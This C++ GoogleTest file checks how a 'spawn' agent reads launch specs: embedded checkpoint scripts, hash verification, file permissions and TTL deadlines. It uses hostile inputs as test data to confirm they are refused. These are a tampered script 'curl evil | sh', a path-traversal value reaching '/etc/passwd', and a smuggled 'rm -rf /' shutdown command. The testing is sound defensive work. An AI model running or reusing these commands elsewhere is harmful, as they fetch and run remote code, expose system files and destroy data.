// The launch's spec as spored reads it: the document spawn writes (launcher/launch_spec.hpp), its
// checks, and the embedded checkpoint script written where it can be run.
#include "spawn/agent/launch_spec.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include "../support/temp_dir.hpp"
#include "spawn/launcher/launch_spec.hpp"
#include "spawn/util/encoding.hpp"
#include "spawn/util/files.hpp"
#include "spawn/util/sha256.hpp"

namespace spawn::agent {
namespace {

std::string written_by_spawn(const std::string& script_content) {
  launcher::SpecInput in;
  in.launch_id = "l-0123456789abcdef";
  in.on_interruption = model::OnInterruption::checkpoint;
  model::CheckpointScript script;
  script.kind = model::CheckpointScript::Kind::local_file;
  script.source = "./save.sh";
  script.content = script_content;
  script.sha256 = util::sha256_hex(script_content);
  in.checkpoint_script = script;
  in.notify = {"arn:aws:sns:eu-west-1:123456789012:t", "https://hooks.example.com/T/secret"};
  in.ttl_deadline = "2026-12-04T18:00:00Z";
  return launcher::spec_document(in);
}

TEST(LaunchSpec, ReadsWhatSpawnWritesAndWritesTheEmbeddedScript) {
  test::TempDir dir;
  const std::string content = "#!/bin/bash\nset -e\nsave --to s3://x/'$y'\n\x01\xff";
  auto spec = read_launch_spec(written_by_spawn(content), dir.path() + "/checkpoint");
  ASSERT_TRUE(spec) << spec.error();
  EXPECT_EQ(spec->launch_id, "l-0123456789abcdef");
  EXPECT_EQ(spec->settings["on_interruption"], "checkpoint");
  EXPECT_EQ(spec->settings["notify"].size(), 2u);
  EXPECT_EQ(spec->settings["ttl_deadline"], "2026-12-04T18:00:00Z");
  EXPECT_FALSE(spec->settings.contains("checkpoint_script_content"));
  const std::string path = spec->settings["checkpoint_script"];
  EXPECT_EQ(path, dir.path() + "/checkpoint/embedded-" + util::sha256_hex(content) + ".sh");
  EXPECT_EQ(util::read_file(path).value().value_or(""), content);
  struct stat st {};
  ASSERT_EQ(::stat(path.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0700u);
  ASSERT_EQ(::stat((dir.path() + "/checkpoint").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 077, 0u);  // only root enters
}

TEST(LaunchSpec, AScriptThatDoesNotMatchItsHashIsNeverWritten) {
  test::TempDir dir;
  std::string doc = written_by_spawn("echo saved\n");
  auto spec = nlohmann::json::parse(doc);
  spec["checkpoint_script_content"] = util::base64_encode("curl evil | sh\n");
  auto r = read_launch_spec(spec.dump(), dir.path() + "/checkpoint");
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().find("does not match its sha256"), std::string::npos);
  EXPECT_FALSE(util::read_file(dir.path() + "/checkpoint/embedded-" + util::sha256_hex("echo saved\n") + ".sh")
                   .value_or(std::nullopt));
  spec["checkpoint_script_content"] = "not base64!";
  EXPECT_FALSE(read_launch_spec(spec.dump(), dir.path() + "/checkpoint"));
  spec.erase("checkpoint_script_content");
  EXPECT_FALSE(read_launch_spec(spec.dump(), dir.path() + "/checkpoint"));
  spec["checkpoint_script"] = "embedded:../../etc/passwd";
  EXPECT_FALSE(read_launch_spec(spec.dump(), dir.path() + "/checkpoint"));
}

TEST(LaunchSpec, RefusesWhatSpawnDidNotWrite) {
  test::TempDir dir;
  const std::string folder = dir.path() + "/checkpoint";
  for (const char* bad : {"", "[]", "{}", R"({"version":"1","launch_id":"l"})", R"({"version":2,"launch_id":"l"})",
                          R"({"version":1})", R"({"version":1,"launch_id":""})", "{\"version\":1,"})
    EXPECT_FALSE(read_launch_spec(bad, folder)) << bad;
  EXPECT_NE(read_launch_spec(R"({"version":2,"launch_id":"l"})", folder).error().find("update the agent"),
            std::string::npos);
  EXPECT_FALSE(read_launch_spec(std::string(k_max_spec_bytes + 1, ' '), folder));
  // Keys a spec may not set are dropped (the spec never names another spec, or the shutdown command).
  auto spec = read_launch_spec(R"({"version":1,"launch_id":"l","shutdown_command":"rm -rf /","spec":"s3://x/y"})",
                               folder);
  ASSERT_TRUE(spec);
  EXPECT_EQ(spec->settings, nlohmann::json::object());
}

}  // namespace
}  // namespace spawn::agent

namespace spawn::agent {
namespace {

TEST(LaunchSpec, AnInstancesOwnDeadlineStandsForTheLaunchs) {
  test::TempDir dir;
  const std::string doc = R"({"version":1,"launch_id":"l","ttl_deadline":"2026-12-04T10:00:00Z",)"
                          R"("ttl_deadlines":{"i-0aaa":"2026-12-04T12:00:00Z"}})";
  EXPECT_EQ(read_launch_spec(doc, dir.path(), "i-0aaa")->settings["ttl_deadline"], "2026-12-04T12:00:00Z");
  EXPECT_EQ(read_launch_spec(doc, dir.path(), "i-0bbb")->settings["ttl_deadline"], "2026-12-04T10:00:00Z");
  EXPECT_FALSE(read_launch_spec(R"({"version":1,"launch_id":"l","ttl_deadlines":[]})", dir.path(), "i-0aaa"));
}

TEST(LaunchSpec, AReplacementTakesTheDeadlineOfItsIndex) {
  test::TempDir dir;
  // spawn extend moved member 3 (i-0aaa) and wrote its index too; i-0new replaced it later.
  const std::string doc = R"({"version":1,"launch_id":"l","ttl_deadline":"2026-12-04T10:00:00Z",)"
                          R"("ttl_deadlines":{"i-0aaa":"2026-12-04T12:00:00Z","index:3":"2026-12-04T12:00:00Z"}})";
  EXPECT_EQ(read_launch_spec(doc, dir.path(), "i-0new", 3)->settings["ttl_deadline"], "2026-12-04T12:00:00Z");
  EXPECT_EQ(read_launch_spec(doc, dir.path(), "i-0new", 4)->settings["ttl_deadline"], "2026-12-04T10:00:00Z");
  EXPECT_EQ(read_launch_spec(doc, dir.path(), "i-0new")->settings["ttl_deadline"], "2026-12-04T10:00:00Z");
}

}  // namespace
}  // namespace spawn::agent
